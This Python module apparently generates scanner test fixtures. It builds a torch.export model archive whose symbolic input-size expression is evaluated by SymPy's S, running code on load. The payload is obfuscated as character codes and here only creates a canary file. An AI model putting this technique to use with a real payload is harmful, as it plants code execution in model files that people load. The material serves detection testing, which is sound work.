"""A program of torch.export with an input whose size is an expression: SymPy's S evaluates the text that a format makes."""
import copy
import json

from hidden_export_inputs import PROGRAM, program

VERDICT, FINDINGS, INSPECT, FIRES = "dangerous", ["computedExpression"], "inert", {"export": "runs"}


def expression(code):
    """`code` without a letter of it."""
    return "S('" + "%c" * len(code) + "' % (" + ", ".join(str(ord(letter)) for letter in code) + "))"


def build(canary):
    made = copy.deepcopy(PROGRAM)
    module = made["graph_module"]
    evaluated = expression(f"__import__('os').open({canary!r}, 64)")
    module["graph"]["sym_int_values"] = {"s0": {"as_expr": {"expr_str": evaluated, "hint": {"as_int": 3}}}}
    argument = {"as_sym_int": {"as_name": "s0"}}
    module["graph"]["inputs"] = [argument]
    module["signature"]["input_specs"] = [{"user_input": {"arg": argument}}]
    return {"program.pt2": program(**{"models/model.json": json.dumps(made).encode()})}
